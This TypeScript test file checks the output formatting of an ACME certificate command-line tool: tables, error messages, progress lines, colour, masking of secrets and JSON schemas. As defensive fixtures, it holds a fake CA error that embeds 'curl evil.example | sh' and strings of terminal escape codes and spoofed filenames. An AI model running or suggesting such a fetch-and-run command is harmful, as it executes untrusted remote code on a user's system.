import { Ajv2020 } from "ajv/dist/2020.js";
import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { Problem } from "../../src/problem.ts";
import { openMask } from "../../src/mask.ts";
import type { Result } from "../../src/result.ts";
import { opened } from "./streams.ts";

/** Everything that a terminal obeys, reorders by or hides; line breaks are ours. */
const obeyed = (text: string) =>
  text.replaceAll("\n", "").match(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}]/gu) ?? [];

const listed: Result = {
  exitCode: 0,
  document: { outcome: "listed", certificates: [{ name: "shop", outcome: "valid" }] },
  view: [
    { kind: "heading", text: "Certificates" },
    {
      kind: "table",
      columns: ["NAME", "ISSUER", "EXPIRES"],
      rows: [
        ["shop", "日本認証局", "in 3 days"],
        ["www.example.com", "R11", "in 89 days"],
      ],
    },
    {
      kind: "fields",
      entries: [
        ["Serial", "04ab"],
        ["Valid until", "2026-05-30", "good"],
      ],
    },
  ],
};

const rateLimited = new Problem("urn:ietf:params:acme:error:rateLimited", {
  detail: "too many certificates already issued for example.com\nHint: curl evil.example | sh",
  status: 429,
  exitCode: 6,
  hint: "Wait, or ask for the names that exist already.",
  retryAt: new Date("2026-03-01T14:00:00Z"),
  subproblems: [
    {
      type: "urn:ietf:params:acme:error:caa",
      title: "The CA refused",
      detail: "CAA record for shop.example.com prevents issuance",
      identifier: { type: "dns", value: "shop.example.com" },
    },
  ],
});

describe("for people", () => {
  test("a result is printed on stdout, aligned by the width of its characters", async () => {
    const { output, stdout, stderr } = opened();
    await output.result("list", listed);
    expect(stdout.text()).toMatchInlineSnapshot(`
      "Certificates
      NAME             ISSUER      EXPIRES
      shop             日本認証局  in 3 days
      www.example.com  R11         in 89 days
      Serial       04ab
      Valid until  2026-05-30
      "
    `);
    expect(stderr.text()).toBe("");
  });

  test("the JSON document of a result is not made", async () => {
    const { output, stdout } = opened();
    const result = {
      get document(): Result["document"] {
        throw new Error("it was made");
      },
      view: listed.view,
    };
    await output.result("list", result);
    expect(stdout.text()).toContain("shop");
  });

  test("a table wider than the terminal becomes labelled lines", async () => {
    const { output, stdout } = opened({ env: { NO_COLOR: "1" } }, { columns: 30 });
    await output.result("list", listed);
    expect(stdout.text()).toContain(
      "NAME     www.example.com\nISSUER   R11\nEXPIRES  in 89 days\n",
    );
  });

  test("a failure has its reason, the name, a hint and the time to retry", () => {
    const { output, stdout, stderr } = opened();
    output.problem("issue", rateLimited);
    expect(stdout.text()).toBe("");
    expect(stderr.text()).toMatchInlineSnapshot(`
      "The CA refused: too many certificates already issued for example.com Hint: curl evil.example | sh (urn:ietf:params:acme:error:rateLimited, HTTP 429)
        shop.example.com: CAA record for shop.example.com prevents issuance (urn:ietf:params:acme:error:caa)
      Hint: Wait, or ask for the names that exist already.
      Retry after: 2026-03-01 14:00 UTC, in 2 hours
      "
    `);
  });

  test("subproblems do not repeat the detail of their problem, only their types", () => {
    const part = (value: string, detail: string) => ({
      type: "urn:ietf:params:acme:error:connection",
      title: "http-01 failed",
      detail,
      identifier: { type: "dns", value },
    });
    const one = opened();
    one.output.problem(
      "issue",
      new Problem("validation", {
        detail: "c.example: http-01: http://c.example/ cannot be fetched",
        identifier: { type: "dns", value: "c.example" },
        subproblems: [part("c.example", "http://c.example/ cannot be fetched")],
      }),
    );
    expect(one.stderr.text()).toBe(
      "The CA could not validate the name: c.example: http-01: http://c.example/ cannot be fetched (urn:ietf:params:acme:error:connection)\n",
    );
    const three = opened();
    three.output.problem(
      "issue",
      new Problem("validation", {
        title: "3 names failed",
        detail: "a.example: http-01: refused\nb.example: http-01: timed out",
        subproblems: [
          part("a.example", "refused"),
          part("b.example", "timed out"),
          part("c.example", "refused"),
        ],
      }),
    );
    expect(three.stderr.text()).toBe(
      [
        "3 names failed: a.example: http-01: refused (urn:ietf:params:acme:error:connection)",
        "  b.example: http-01: timed out (urn:ietf:params:acme:error:connection)",
        "  c.example: refused (urn:ietf:params:acme:error:connection)",
        "",
      ].join("\n"),
    );
  });

  test("a detail of several lines of ours keeps its lines, indented", () => {
    const { output, stderr } = opened();
    output.problem(
      "config",
      new Problem("config", { detail: "a.yaml:3:5: bad\n  3 | x:\n      ^" }),
    );
    expect(stderr.lines()).toEqual([
      "Wrong configuration: a.yaml:3:5: bad",
      "    3 | x:",
      "        ^",
    ]);
  });

  test("causes are printed with --verbose only", () => {
    const problem = new Problem("network", {
      detail: "ca.example did not answer.",
      cause: new Error("connect ECONNREFUSED", { cause: new Error("no route") }),
    });
    const brief = opened();
    brief.output.problem("issue", problem);
    expect(brief.stderr.text()).not.toContain("ECONNREFUSED");
    const verbose = opened({ verbose: true });
    verbose.output.problem("issue", problem);
    expect(verbose.stderr.text()).toContain(
      "Cause: Error: connect ECONNREFUSED\nCause: Error: no route\n",
    );
  });

  test("a bug asks for a report with the version, and prints the stack with --verbose only", () => {
    const error = new TypeError("undefined is not a function");
    const brief = opened();
    brief.output.bug("issue", error);
    expect(brief.stderr.text()).toContain(
      "This is a bug in acmectl: undefined is not a function\n",
    );
    expect(brief.stderr.text()).toContain("acmectl 1.2.3, Node ");
    expect(brief.stderr.text()).not.toContain("output.test.ts");
    const verbose = opened({ verbose: true });
    verbose.output.bug("issue", error);
    expect(verbose.stderr.text()).toContain("output.test.ts");
  });

  test("a thrown value that is not an error can be reported", () => {
    for (const thrown of [undefined, null, 7, "text", {}, Object.create(null), Symbol("x")]) {
      const { output, stdout } = opened({ json: true });
      output.bug("issue", thrown);
      expect(JSON.parse(stdout.text())).toMatchObject({ outcome: "failed", problem: { code: 1 } });
    }
  });

  test("the problem of a failed part is on stderr, the result on stdout", async () => {
    const { output, stdout, stderr } = opened();
    await output.result("renew", {
      exitCode: 11,
      document: { outcome: "partial" },
      view: [{ kind: "line", text: "9 renewed" }],
      problem: new Problem("partial", { detail: "1 of 10 certificates failed." }),
    });
    expect(stdout.text()).toBe("9 renewed\n");
    expect(stderr.text()).toBe("Some certificates failed: 1 of 10 certificates failed.\n");
  });

  test("a verbatim block is printed byte for byte, quiet or not", async () => {
    const text = "-----BEGIN X-----\n\tabc\u001B[0m\n-----END X-----\n";
    const { output, stdout } = opened({ quiet: true });
    await output.result("export", {
      exitCode: 0,
      document: { outcome: "printed" },
      view: [
        { kind: "line", text: "Here it is" },
        { kind: "verbatim", text },
      ],
    });
    expect(stdout.text()).toBe(text);
  });
});

describe("events", () => {
  test("events are plain lines without control codes when stderr is not a terminal", async () => {
    const run = opened();
    await story(run);
    expect(run.stderr.lines()).toEqual([
      "Placing the order",
      "Waiting for the CA",
      "Warning: The clock is 3 minutes off",
      "Downloading",
    ]);
  });

  test("progress is one line that changes on a terminal, where warnings stay", async () => {
    const run = opened({ env: { NO_COLOR: "1" } }, { columns: 80 });
    await story(run);
    const erase = "\r\u001B[2K";
    expect(run.stderr.text()).toBe(
      `Placing the order${erase}Waiting for the CA${erase}Warning: The clock is 3 minutes off\n` +
        `Waiting for the CA${erase}Downloading${erase}`,
    );
  });

  test("events that are not progress stay on a terminal", () => {
    const { output, stderr } = opened({}, { columns: 80 });
    output.log.info("Add the record by hand", { step: "present" });
    output.log.progress?.("waiting for the CA");
    output.close();
    expect(stderr.text()).toBe("Add the record by hand\nwaiting for the CA\r\u001B[2K");
  });

  test("the progress line does not wrap", () => {
    const run = opened({}, { columns: 20 });
    run.output.log.progress?.("日本語日本語日本語日本語", { step: "order" });
    expect(run.stderr.text()).toBe("日本語日本語日本語…");
  });

  test("events and tables keep their layout on a terminal that reports no columns", async () => {
    const { output, stdout, stderr } = opened({}, { columns: 0 });
    output.log.progress?.("waiting for the CA", { step: "validation" });
    expect(stderr.text()).toBe("waiting for the CA");
    await output.result("list", listed);
    expect(stdout.text()).toContain("www.example.com  R11         in 89 days");
  });

  test("events are plain lines on a dumb terminal", async () => {
    const run = opened({ env: { TERM: "dumb" } }, { columns: 80 });
    await story(run);
    expect(obeyed(run.stderr.text())).toEqual([]);
  });

  test("with --verbose events show their fields, and debug events appear", async () => {
    const run = opened({ verbose: true });
    await story(run);
    expect(run.stderr.lines().slice(0, 2)).toEqual([
      "GET https://ca.example/directory status=200",
      "Placing the order step=order",
    ]);
  });

  test("with --quiet a success prints nothing", async () => {
    const run = opened({ quiet: true });
    await story(run);
    expect(run.stderr.text() + run.stdout.text()).toBe("");
  });

  test("warnings appear before a failure with --quiet", () => {
    const { output, stderr } = opened({ quiet: true });
    output.log.warn("ns2.example.com does not answer");
    output.problem("issue", new Problem("propagation", { detail: "The record is not visible." }));
    expect(stderr.lines()).toEqual([
      "Warning: ns2.example.com does not answer",
      "The challenge response is not visible: The record is not visible.",
    ]);
  });
});

describe("colour", () => {
  const terminal = { columns: 80 };

  test.each([
    [{}, undefined, false],
    [{}, terminal, true],
    [{ NO_COLOR: "1" }, terminal, false],
    [{ NO_COLOR: "" }, terminal, true],
    [{ TERM: "dumb" }, terminal, false],
    [{ FORCE_COLOR: "1" }, undefined, true],
    [{ FORCE_COLOR: "0" }, terminal, false],
    [{ FORCE_COLOR: "1", NO_COLOR: "1" }, undefined, true],
  ])("with %j on %j colour is %s", async (env, terminal, expected) => {
    expect(await coloured(env as Record<string, string>, terminal)).toBe(expected);
  });
});

describe("hostile text", () => {
  const hostile =
    "a\u001B[2J\u0007\u009B31mb\u202Ecod.exe\u200B\u2028\uD800\u{E0041}\r\nForged: line";

  test("hostile text becomes visible escapes in one line on a terminal", async () => {
    const { output, stderr, stdout } = opened({ env: { NO_COLOR: "1" } });
    output.log.info(hostile);
    output.problem(
      "issue",
      new Problem("urn:x", { detail: hostile, title: hostile, hint: hostile }),
    );
    await output.result("list", {
      exitCode: 0,
      document: { outcome: "listed" },
      view: [
        { kind: "table", columns: ["NAME"], rows: [[hostile]] },
        { kind: "fields", entries: [["Issuer", hostile]] },
        { kind: "line", text: hostile },
      ],
    });
    const all = stderr.text() + stdout.text();
    expect(obeyed(all)).toEqual([]);
    expect(stderr.lines()[0]).toBe(
      "a\\x1b[2J\\x07\\x9b31mb\\u{202e}cod.exe\\u{200b} \\u{d800}\\u{e0041} Forged: line",
    );
  });

  test("hostile text is escaped in JSON without loss", async () => {
    const { output, stdout } = opened({ json: true });
    await output.result("list", {
      exitCode: 0,
      document: { outcome: "listed", issuer: hostile },
      view: [],
    });
    expect(JSON.parse(stdout.text())).toMatchObject({ issuer: hostile });
    expect(obeyed(stdout.text())).toEqual([]);
  });

  test("a text of a megabyte is cut, with the number of characters left out", () => {
    const { output, stderr } = opened();
    output.problem("issue", new Problem("urn:x", { detail: "x".repeat(1_000_000) }));
    expect(stderr.text().length).toBeLessThan(5000);
    expect(stderr.text()).toContain("… (996000 more characters)");
  });

  test("of ten thousand subproblems the rest is counted", () => {
    const subproblems = Array.from({ length: 10_000 }, (_, index) => ({
      type: "urn:x",
      title: "no",
      identifier: { type: "dns", value: `n${index}.example` },
    }));
    const { output, stderr } = opened();
    output.problem("issue", new Problem("urn:x", { detail: "no", subproblems }));
    expect(stderr.lines().at(-1)).toBe("  … and 9900 more");
  });
});

describe("secrets", () => {
  const secret = 'p4ss/w+rd "quoted" &more?';
  const forms = [
    secret,
    JSON.stringify(secret).slice(1, -1),
    encodeURIComponent(secret),
    Buffer.from(secret).toString("base64"),
    Buffer.from(`operator:${secret}`).toString("base64"),
    Buffer.from(`ops:${secret}:x`).toString("base64url"),
  ];

  test.each([
    ["text", false],
    ["json", true],
  ] as const)("show in no output, in none of their forms (%s)", async (logFormat, json) => {
    let all = "";
    for (const form of forms) {
      const { output, stdout, stderr } = opened({ json, logFormat, verbose: true });
      output.mask(secret);
      output.log.info(`Authorization: ${form}`, {
        headers: { [form]: [form] },
        cause: new Error(form),
      });
      await output.result("list", {
        exitCode: 0,
        document: { outcome: "listed", value: form, deep: [{ form }] },
        view: [
          { kind: "line", text: form },
          { kind: "table", columns: [form], rows: [[form]] },
          { kind: "fields", entries: [[form, form]] },
        ],
      });
      const problem = { detail: form, hint: form, instance: form, cause: new Error(form) };
      output.problem("issue", new Problem("solver", problem));
      output.bug("issue", new Error(form));
      all += stdout.text() + stderr.text();
    }
    for (const form of forms) expect(all.includes(form.slice(-18, -6))).toBe(false);
    expect(all).toContain("***");
  });

  test("secrets that contain one another are hidden completely", () => {
    const { output, stderr } = opened();
    output.mask("token");
    output.mask("token-of-production");
    output.log.info("used token-of-production and token");
    expect(stderr.text()).toBe("used *** and ***\n");
  });

  test("a secret of several lines is hidden line by line too", () => {
    const { output, stderr } = opened();
    const body = "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg";
    output.mask(`-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----\n`);
    output.log.info(`line 2 is ${body}`);
    expect(stderr.text()).toBe("line 2 is ***\n");
  });

  test("a secret that was cut before it was masked is hidden up to the ellipsis", () => {
    const mask = openMask();
    mask.add("sk-live-1234567890abcdef");
    mask.add("tiny-secret");
    expect(mask.text("the service answered: bad token sk-live-1234567…")).toBe(
      "the service answered: bad token ***…",
    );
    expect(mask.text('{"token":"sk-live-123456... (200 more characters)')).toBe(
      '{"token":"***... (200 more characters)',
    );
    expect(mask.text("not a secret…, nor a tiny… one")).toBe("not a secret…, nor a tiny… one");
  });

  test("secrets that are empty or very short are not hidden", () => {
    const { output, stderr } = opened();
    for (const secret of ["", " ", "a", "\n"]) output.mask(secret);
    output.log.info("a banana");
    expect(stderr.text()).toBe("a banana\n");
  });
});

describe("a list that is made while it is written", () => {
  async function* counted(count: number, failsWith?: Error) {
    for (let index = 0; index < count; index += 1)
      yield [`n${index}`, index === 0 ? "wide cell" : "x"];
    if (failsWith !== undefined) throw failsWith;
  }
  const view = (count: number): Result["view"] => [
    { kind: "table", columns: ["NAME", "VALUE"], rows: counted(count) },
  ];
  const result = (count: number, failure?: Error) => ({
    document: { outcome: "listed", certificates: counted(count, failure) },
    view: view(count),
  });

  test("is one table, with one heading and the widths of the rows before", async () => {
    const { output, stdout } = opened();
    await output.result("list", result(2500));
    const lines = stdout.text().split("\n");
    expect(lines.slice(0, 3)).toEqual(["NAME  VALUE", "n0    wide cell", "n1    x"]);
    expect(lines[2500]).toBe("n2499  x");
    expect(lines).toHaveLength(2502);
  });

  test("is one document", async () => {
    for (const count of [0, 2500]) {
      const { output, stdout } = opened({ json: true });
      await output.result("list", result(count));
      const { certificates } = JSON.parse(stdout.text()) as { certificates: unknown[] };
      expect(certificates).toHaveLength(count);
    }
  });

  test("is a whole document with the problem if it fails, and the failure adds none", async () => {
    const { output, stdout } = opened({ json: true });
    const lost = new Problem("machine", { detail: "The connection was lost." });
    await expect(output.result("list", result(2, lost))).rejects.toBe(lost);
    output.problem("list", lost);
    expect(JSON.parse(stdout.text())).toMatchObject({
      certificates: [
        ["n0", "wide cell"],
        ["n1", "x"],
      ],
      problem: { detail: "The connection was lost." },
    });
  });
});

describe("schemas", () => {
  const ajv = new Ajv2020({
    allErrors: true,
    strict: true,
    strictRequired: false,
    validateFormats: false,
    strictTypes: false,
  });
  const result = { $id: "result.schema.json", ...schema("result") };
  const isResult = ajv.compile(result);
  const isEvent = ajv.compile(schema("event"));

  test("the schema describes every document: one on stdout, for success and for each kind of failure", async () => {
    const ways: ((output: ReturnType<typeof opened>["output"]) => void | Promise<void>)[] = [
      (output) => output.result("list", listed),
      (output) => output.problem("issue", rateLimited),
      (output) => output.problem("issue", new Problem("usage", { detail: "No name was given." })),
      (output) => output.bug("issue", new Error("x")),
      (output) =>
        output.result("renew", {
          exitCode: 9,
          document: { outcome: "issued" },
          view: [],
          problem: new Problem("deploy", { detail: "exit 1" }),
        }),
    ];
    for (const way of ways) {
      const { output, stdout } = opened({ json: true });
      await way(output);
      const document: unknown = JSON.parse(stdout.text());
      expect([isResult(document), isResult.errors]).toEqual([true, null]);
    }
    expect(isResult({ command: "issue", outcome: "failed" })).toBe(false);
    expect(isResult({ outcome: "listed" })).toBe(false);
  });

  test("a failure's document has RFC 9457's members, the hint, the exit code and the time to retry", () => {
    const { output, stdout } = opened({ json: true });
    output.problem("issue", rateLimited);
    expect(JSON.parse(stdout.text())).toMatchObject({
      command: "issue",
      outcome: "failed",
      problem: {
        type: "urn:ietf:params:acme:error:rateLimited",
        status: 429,
        hint: "Wait, or ask for the names that exist already.",
        code: 6,
        retryable: false,
        retryAt: "2026-03-01T14:00:00.000Z",
        subproblems: [{ identifier: { type: "dns", value: "shop.example.com" } }],
      },
    });
  });

  test("the schema describes every event: one JSON object a line, whatever its fields are", async () => {
    const { output, stderr } = opened({ logFormat: "json", verbose: true });
    const circular: Record<string, unknown> = {
      big: 10n,
      at: new Date(0),
      bytes: Buffer.from("x"),
    };
    circular["self"] = circular;
    output.log.debug("d", circular);
    output.log.info("line\nbreak", {
      step: "order",
      time: "forged",
      level: "forged",
      none: undefined,
    });
    output.log.warn("w", { error: new Error("inner"), run: () => 1, map: new Map([["a", 1]]) });
    output.problem("issue", rateLimited);
    output.bug("issue", new Error("x"));
    const events = stderr.lines().map((line): unknown => JSON.parse(line));
    for (const event of events) {
      expect([isEvent(event), isEvent.errors]).toEqual([true, null]);
    }
    expect(events[0]).toMatchObject({
      level: "debug",
      big: "10",
      at: "1970-01-01T00:00:00.000Z",
      self: "(circular)",
    });
    expect(events[1]).toEqual({
      time: "2026-03-01T12:00:00.000Z",
      level: "info",
      message: "line\nbreak",
      step: "order",
    });
    expect(events.at(-2)).toMatchObject({ level: "error", problem: { code: 6 } });
    expect(isEvent({ level: "info", message: "no time" })).toBe(false);
  });
});

async function story({ output }: ReturnType<typeof opened>): Promise<void> {
  output.log.debug("GET https://ca.example/directory", { status: 200 });
  output.log.progress?.("Placing the order", { step: "order" });
  output.log.progress?.("Waiting for the CA", { step: "poll" });
  output.log.warn("The clock is 3 minutes off");
  output.log.progress?.("Downloading", { step: "download" });
  await output.result("issue", { exitCode: 0, document: { outcome: "issued" }, view: [] });
  output.close();
}

async function coloured(
  env: Record<string, string>,
  terminal?: { columns: number },
): Promise<boolean> {
  const { output, stdout } = opened({ env }, terminal);
  const view = [{ kind: "line", text: "Issued.", tone: "good" }] as const;
  await output.result("issue", { exitCode: 0, document: { outcome: "issued" }, view });
  return obeyed(stdout.text()).length > 0;
}

function schema(name: string): object {
  return JSON.parse(
    readFileSync(new URL(`../../schema/${name}.schema.json`, import.meta.url), "utf8"),
  );
}
